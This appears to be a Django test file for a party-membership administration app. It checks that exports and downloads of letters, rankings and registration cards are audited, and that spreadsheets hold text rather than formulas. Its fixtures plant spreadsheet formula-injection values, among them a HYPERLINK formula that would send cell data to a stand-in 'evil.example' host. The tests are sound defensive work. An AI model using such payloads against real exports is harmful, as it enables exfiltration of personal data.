"""The party's documents with personal data, downloaded from the console and the API: each download leaves
exactly one audit row naming the document, a refused one none; the letters register and the ranking
hold text, never a formula, whatever a name or a summary holds (gongzhi/testing/hostile_cells.py)."""

from __future__ import annotations

from django.db import connection

from gongzhi.party.models import FeedbackLetter, PartyMember, Unit
from gongzhi.party.services import evaluation
from gongzhi.party.tests.test_cards import accept
from gongzhi.party.tests.test_evaluation import EQUAL, LAST, QUARTER, ev  # noqa: F401 (fixture)
from gongzhi.party.tests.test_registration import party  # noqa: F401 (fixture)
from gongzhi.testing.audited import download, refused_without_row
from gongzhi.testing.hostile_cells import HOSTILE, MIXED, assert_written_safely

FORMULA = '=HYPERLINK("http://evil.example/?d="&R2,"点击查看")'
# What a name typed elsewhere may hold; PostgreSQL cannot store a NUL, so there only the rest.
STORED = MIXED if connection.vendor != "postgresql" else MIXED.replace("\x00", "")


def test_letters_register_and_letter_pdf_are_audited_and_hold_text(ev, client):  # noqa: F811
    d = ev
    PartyMember.objects.filter(pk=d.zhang.pk).update(name=FORMULA)
    evaluation.feedback_letters_issue(actor=d.user("community_worker"), period=QUARTER)
    letter = FeedbackLetter.objects.get(member=d.zhang)
    summary = dict(letter.summary)
    summary["workplace_org"], summary["items"] = "+1+1", ["-1+1", "@SUM(A1)", "路灯\x0b不亮"]
    FeedbackLetter.objects.filter(pk=letter.pk).update(summary=summary)
    worker = d.user("community_worker")
    client.force_login(worker)
    for url in (
        f"/console/party/serving/letters/export.xlsx?period={QUARTER}",
        f"/api/v1/party/letters/export.xlsx?period={QUARTER}",
    ):
        r, row = download(
            client, url, event="party.feedback_letters_exported", document="反馈函汇总", user=worker
        )
        assert row.data["rows"] == 2 and row.data["filters"] == {"period": QUARTER}
        assert row.community_code == d.communities["A1"].code  # the worker's community reads the row
        assert_written_safely(r.content, FORMULA, "+1+1", "-1+1")
    for url in (f"/console/party/serving/letters/{letter.pk}.pdf", f"/api/v1/party/letters/{letter.pk}.pdf"):
        r, row = download(
            client, url, event="party.feedback_letter_downloaded", document="反馈函", user=worker
        )
        assert r["Content-Type"] == "application/pdf"
        assert row.target_type == "party.partymember" and row.target_id == str(d.zhang.pk)
        assert row.data["letter_id"] == letter.pk and row.data["period"] == QUARTER
    # The unit's liaison exports their unit's letters: the row filed under the unit.
    liaison = d.user("unit_liaison")
    client.force_login(liaison)
    url = f"/api/v1/party/letters/export.xlsx?unit_id={d.hospital.pk}"
    _r, row = download(
        client, url, event="party.feedback_letters_exported", document="反馈函汇总", user=liaison
    )
    assert row.target_type == "party.unit" and row.target_id == str(d.hospital.pk)
    other = FeedbackLetter.objects.get(member=d.wang)
    refused_without_row(client, f"/api/v1/party/letters/{other.pk}.pdf")


def test_the_ranking_is_audited_and_holds_text(ev, client):  # noqa: F811
    d = ev
    Unit.objects.filter(pk=d.hospital.pk).update(name=FORMULA)
    Unit.objects.filter(pk=d.school.pk).update(name=STORED)
    Unit.objects.filter(pk=d.b_unit.pk).update(name="@SUM(A1)")
    admin = d.user("district_admin")
    evaluation.assessment_scheme_set(actor=admin, year=LAST, weights=EQUAL)
    scheme = evaluation.units_assess(actor=admin, year=LAST)
    client.force_login(admin)
    for url in (
        f"/console/party/serving/ranking.xlsx?year={LAST}",
        f"/api/v1/party/assessment/ranking.xlsx?year={LAST}",
    ):
        r, row = download(
            client, url, event="party.ranking_exported", document="驻区单位考核排名", user=admin
        )
        assert row.data["rows"] == 3 and row.data["year"] == LAST and row.data["scheme_id"] == scheme.pk
        assert row.target_type == "places.district" and row.district_code == d.district.code
        assert_written_safely(r.content, FORMULA, MIXED, "@SUM(A1)")
    refused_without_row(client, f"/api/v1/party/assessment/ranking.xlsx?year={LAST - 1}")
    assert set(HOSTILE) >= {FORMULA, "@SUM(A1)"}


def test_the_registration_card_is_audited(district, party, client):  # noqa: F811
    accept(district, party.r_self)
    member = district.user("party_member")
    client.force_login(member)
    rid = party.r_self.pk
    for url in (
        f"/console/party/registrations/{rid}/card.pdf",
        f"/api/v1/party/registrations/{rid}/card.pdf",
    ):
        r, row = download(
            client, url, event="party.registration_card_downloaded", document="在职党员报到证", user=member
        )
        assert r["Content-Type"] == "application/pdf"
        assert row.target_type == "party.memberregistration" and row.target_id == str(rid)
    client.force_login(district.user("grid_worker"))
    refused_without_row(client, f"/api/v1/party/registrations/{rid}/card.pdf")
